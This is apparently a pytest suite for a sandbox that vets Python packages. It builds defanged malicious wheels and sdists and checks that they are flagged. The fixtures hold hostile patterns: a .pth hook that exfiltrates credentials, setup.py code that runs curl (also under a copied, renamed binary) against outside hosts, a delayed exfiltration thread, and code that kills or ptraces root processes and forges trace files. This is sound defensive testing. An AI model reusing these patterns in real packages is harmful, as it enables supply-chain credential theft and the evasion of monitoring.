"""End-to-end vetting in the real sandbox with defanged fixtures built by the tests.

The fixtures only target TEST-NET addresses and run only inside the sandbox: the
tests pass their paths to ``pkgsandbox vet`` and never import or install them.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from sandbox.models import EventKind, Phase, PhaseStatus, Report, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import (
    Randomised,
    build_wheel,
    ctypes_connect_source,
    delayed_thread_source,
    exfil_source,
    pth_line,
    setuptools_sdist,
)

pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")
# The key fixtures run under both recorders: strace inside the sandbox and eBPF on the
# host (root, as CI is). Same findings expected; differences are in README "Recorders".
RECORDERS = pytest.mark.parametrize("recorder", ["strace", "ebpf"])


def finding(report: Report, rule: str, phase: Phase | None = None) -> Any:
    for f in report.findings:
        if f.rule_id == rule and (phase is None or f.phase is phase):
            return f
    raise AssertionError(
        f"no {rule} finding in {phase}: {[(f.rule_id, f.phase.value) for f in report.findings]}"
    )


@RECORDERS
def test_benign_wheel_is_clean(tmp_path: Path, recorder: str) -> None:
    r = Randomised()
    name = r.name("tidy")
    whl = build_wheel(
        tmp_path,
        name,
        "1.0.0",
        {
            f"{name}/__init__.py": "from .core import add\n__all__ = ['add']\n",
            f"{name}/core.py": "import json, os, re\n\ndef add(a, b):\n    return a + b\n",
            f"{name}/util/__init__.py": "VALUE = 3\n",
        },
    )
    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
    assert report is not None
    assert report.verdict is Verdict.CLEAN, (report.verdict_reason, report.findings)
    assert code == 0
    # the default profile exercises the package after import (nothing to run here)
    assert [p.phase for p in report.phases] == [
        Phase.INSTALL,
        Phase.STARTUP,
        Phase.IMPORT,
        Phase.EXERCISE,
        Phase.EXECUTE,
    ]
    assert all(p.status is PhaseStatus.OK and p.trace_complete for p in report.phases)
    imported = {s.name for s in report.phases[2].steps}
    assert {name, f"{name}.core", f"{name}.util"} <= imported
    cand = report.artifacts[0]
    assert cand.role.value == "candidate" and len(cand.sha256) == 64


def test_benign_sdist_is_clean(tmp_path: Path) -> None:
    r = Randomised()
    name = r.name("plain")
    sdist = setuptools_sdist(tmp_path, name, "0.3.1", name, "def hello():\n    return 'hi'\n")
    code, report = run_cli(tmp_path, str(sdist))
    assert report is not None
    assert report.verdict is Verdict.CLEAN, (report.verdict_reason, report.findings)
    assert code == 0
    # the build ran inside the sandbox: the install phase saw the build backend
    argvs = [" ".join(p.argv) for p in report.processes if p.phase is Phase.INSTALL]
    assert any("_in_process" in a or "build_meta" in a or "setup.py" in a for a in argvs), argvs


@RECORDERS
def test_pth_credential_exfiltration_is_malicious(tmp_path: Path, recorder: str) -> None:
    r = Randomised()
    name, cred, host, port = r.name("helper"), r.credential(), r.address(), r.port()
    whl = build_wheel(
        tmp_path,
        name,
        "2.0.0",
        {
            f"{name}/__init__.py": "VERSION = '2.0.0'\n",
            f"{name}_init.pth": pth_line(exfil_source(cred, host, port)),
        },
    )
    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    cred_f = finding(report, "PS001", Phase.STARTUP)
    assert any(e.path and e.path.endswith("/" + cred) for e in cred_f.evidence), cred_f
    out_f = finding(report, "PS002", Phase.STARTUP)
    assert any(e.destination == f"{host}:{port}" for e in out_f.evidence), out_f
    assert all(e.pid > 0 and e.process for e in out_f.evidence)


@RECORDERS
def test_sdist_setup_spawning_curl_is_malicious_and_host_untouched(tmp_path: Path, recorder: str) -> None:
    r = Randomised()
    name, host, port, marker = r.name("setupx"), r.address(), r.port(), r.marker()
    body = f"""
    import subprocess
    open({marker!r}, "w").write("ran")
    subprocess.run(["curl", "-s", "-m", "2", "http://{host}:{port}/i"], check=False)
    """
    sdist = setuptools_sdist(tmp_path, name, "1.0", name, "X = 1\n", setup_body=body)
    code, report = run_cli(tmp_path, str(sdist), "--recorder", recorder)
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    spawn = finding(report, "PS003", Phase.INSTALL)
    assert any(e.process and e.process[0].endswith("curl") for e in spawn.evidence), spawn
    writes = [e for e in report.events if e.kind is EventKind.FILE_WRITE and e.path == marker]
    assert writes and writes[0].phase is Phase.INSTALL
    assert not os.path.exists(marker), "a marker written in the sandbox appeared on the host"


def test_copied_downloader_under_random_name_is_caught(tmp_path: Path) -> None:
    r = Randomised()
    name, host, tool = r.name("copier"), r.address(), f"/tmp/{r.name('t')}"
    body = f"""
    import shutil, subprocess
    shutil.copy("/usr/bin/curl", {tool!r})
    subprocess.run([{tool!r}, "-s", "-m", "2", "http://{host}/"], check=False)
    """
    sdist = setuptools_sdist(tmp_path, name, "1.0", name, "X = 1\n", setup_body=body)
    code, report = run_cli(tmp_path, str(sdist))
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    f = finding(report, "PS004", Phase.INSTALL)
    assert any(e.path == tool for e in f.evidence)


@RECORDERS
def test_ctypes_libc_connect_is_caught(tmp_path: Path, recorder: str) -> None:
    r = Randomised()
    name, host, port = r.name("native"), r.address(), r.port()
    whl = build_wheel(tmp_path, name, "0.1", {f"{name}/__init__.py": ctypes_connect_source(host, port)})
    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    f = finding(report, "PS002", Phase.IMPORT)
    assert any(e.destination == f"{host}:{port}" and e.syscall == "connect" for e in f.evidence)


@RECORDERS
def test_delayed_thread_after_import_is_caught(tmp_path: Path, recorder: str) -> None:
    r = Randomised()
    name, host, port, delay = r.name("later"), r.address(), r.port(), r.delay(2.0, 3.5)
    src = delayed_thread_source(delay, exfil_source(r.credential(), host, port))
    whl = build_wheel(tmp_path, name, "0.2", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    f = finding(report, "PS002", Phase.IMPORT)
    next(e for e in f.evidence if e.destination == f"{host}:{port}")
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
    assert imp.window >= delay - 0.5  # the window kept watching until the thread acted


@RECORDERS
def test_recorder_cannot_be_tampered_with(tmp_path: Path, recorder: str) -> None:
    r = Randomised()
    name = r.name("tamper")
    src = """
import os, signal, ctypes
for pid in (1,) + tuple(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        st = os.stat(f"/proc/{pid}")
    except OSError:
        continue
    if st.st_uid == 0:
        for sig in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        ctypes.CDLL(None).ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
for path in ("/var/lib/devtools/out/x", "/var/lib/devtools/out/startup.python-c-pass.strace"):
    try:
        open(path, "a").write("forged")
    except OSError:
        pass
"""
    whl = build_wheel(tmp_path, name, "0.1", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    f = finding(report, "PS007", Phase.IMPORT)
    kills = [e for e in f.evidence if e.syscall in ("kill", "ptrace")]
    assert kills and all(e.errno in ("EPERM", "ESRCH") for e in kills), kills
    writes = [e for e in f.evidence if e.path and e.path.startswith("/var/lib/devtools")]
    assert writes and all(e.errno == "EACCES" for e in writes), writes
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
    assert imp.trace_complete and imp.status is PhaseStatus.OK


@pytest.mark.online
@pytest.mark.parametrize("spec", ["six", "requests"])
def test_popular_packages_are_clean(tmp_path: Path, spec: str) -> None:
    code, report = run_cli(tmp_path, spec)
    assert report is not None
    assert report.verdict is Verdict.CLEAN, (
        report.verdict_reason,
        [(f.rule_id, f.message) for f in report.findings],
    )
    assert code == 0
